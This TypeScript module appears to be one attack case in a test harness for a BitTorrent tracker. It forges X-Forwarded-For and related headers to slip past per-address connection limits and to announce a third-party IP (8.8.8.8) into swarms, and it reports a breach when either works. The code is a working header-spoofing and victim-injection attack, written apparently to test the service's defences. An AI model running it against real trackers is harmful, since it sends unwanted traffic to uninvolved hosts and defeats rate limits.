// Everybody claims to be somebody else by X-Forwarded-For: to get past the limit of an address, and to put strangers into swarms.
import { ATTACKERS, type Attack } from '../attack.ts';
import { pause, RawSocket, webSockets } from '../raw-socket.ts';

const PER_ADDRESS = 300;
/** Of one address, as it ships. */
const PER_ADDRESS_MAX = 100;
const VICTIM = '8.8.8.8';
const HASH = 'forged swarm________';

const announce = (peerId: string): string =>
  `GET /announce?info_hash=${HASH}&peer_id=${peerId}&port=80&uploaded=0&downloaded=0&left=1&compact=1 HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${VICTIM}\r\nX-Real-IP: ${VICTIM}\r\nForwarded: for=${VICTIM}\r\n\r\n`;
const packed = Buffer.from([8, 8, 8, 8, 0, 80]).toString('latin1');

export const attack: Attack = {
  id: '9',
  title: `forged X-Forwarded-For: ${PER_ADDRESS} connections of each address, and announces for ${VICTIM}`,
  service: 'tracker',
  run: async ({ port }, tell) => {
    const open = new Map<string, number>();
    const announcing = async (): Promise<never> => {
      for (let count = 0; ; count++) {
        const socket = await RawSocket.connect(port, ATTACKERS[0]);
        socket.onData = (bytes) => {
          if (bytes.toString('latin1').includes(packed)) tell.breach(`${VICTIM}:80 is in a swarm`);
        };
        for (const who of ['one', 'two']) await socket.send(announce(`${who}${count % 10}`.padEnd(20, '_')));
        await pause(50);
        socket.socket.destroy();
      }
    };
    const connecting = webSockets(
      port,
      async (socket, index) => {
        const address = ATTACKERS[index % ATTACKERS.length]!;
        const count = (open.get(address) ?? 0) + 1;
        open.set(address, count);
        if (count > PER_ADDRESS_MAX) tell.breach(`${count} connections of one address`);
        await socket.closed;
        open.set(address, open.get(address)! - 1);
      },
      {
        count: PER_ADDRESS * ATTACKERS.length,
        headers: (index) => `X-Forwarded-For: 198.51.${index >> 8}.${index & 255}\r\n`,
      },
    );
    await Promise.all([announcing(), connecting]);
  },
};
